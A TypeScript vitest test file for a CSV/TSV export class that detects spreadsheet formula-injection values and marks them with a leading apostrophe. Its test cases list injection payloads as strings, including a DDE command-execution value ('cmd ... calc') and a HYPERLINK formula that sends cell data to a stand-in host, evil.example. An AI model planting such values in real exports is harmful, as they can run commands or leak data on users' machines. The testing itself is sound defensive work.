import { describe, expect, test } from "vitest";
import { companyDocuments } from "../document-type/company-documents.ts";
import { DocumentLines } from "./document-lines.ts";

/** The cell of the name, and the number of documents with a formula. */
function nameIn(name: string, marksFormulas: boolean, format: "csv" | "tsv" = "csv"): readonly [string, number] {
  const lines = new DocumentLines(companyDocuments, format, ";", marksFormulas);
  const line = lines.line({ id: "1", name });
  const rest = (format === "csv" ? "," : "\t").repeat(
    (lines.header ?? "").split(format === "csv" ? "," : "\t").length - 2,
  );
  expect(line.slice(line.length - rest.length - 1)).toBe(`${rest}\n`);
  return [line.slice(2, line.length - rest.length - 1), lines.formulas];
}

describe("a value that spreadsheet programs run as a formula", () => {
  test.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1",
    "-1+cmd",
    "@SUM(A1)",
    "|cmd",
    "%0a=1",
    "  =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "a;=1",
  ])("as %j is written as it is, and marked for such programs", (name) => {
    const unquoted = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    for (const format of ["csv", "tsv"] as const) {
      const [plain, count] = nameIn(name, false, format);
      expect([unquoted(plain), count]).toEqual([name, 1]);
      const [marked] = nameIn(name, true, format);
      expect(unquoted(marked).replaceAll("'", "")).toBe(name.replaceAll("'", ""));
      expect(unquoted(marked)).toMatch(/^'|;'/);
    }
  });

  test.each(["a", "a=1", "5", "a - b", "it's", "3;4", ""])("is not %j", (name) => {
    for (const marks of [false, true]) expect(nameIn(name, marks)[1]).toBe(0);
    expect(nameIn(name, true)).toEqual(nameIn(name, false));
  });

  test("is no number", () => {
    const lines = new DocumentLines(companyDocuments, "csv", ";", true);
    expect(lines.line({ id: "1", followers: -5 })).not.toContain("'");
    expect(lines.formulas).toBe(0);
  });

  test("is left alone in NDJSON", () => {
    const lines = new DocumentLines(companyDocuments, "ndjson", ";", true);
    expect(lines.line({ id: "=1" })).toBe('{"id":"=1"}\n');
  });
});
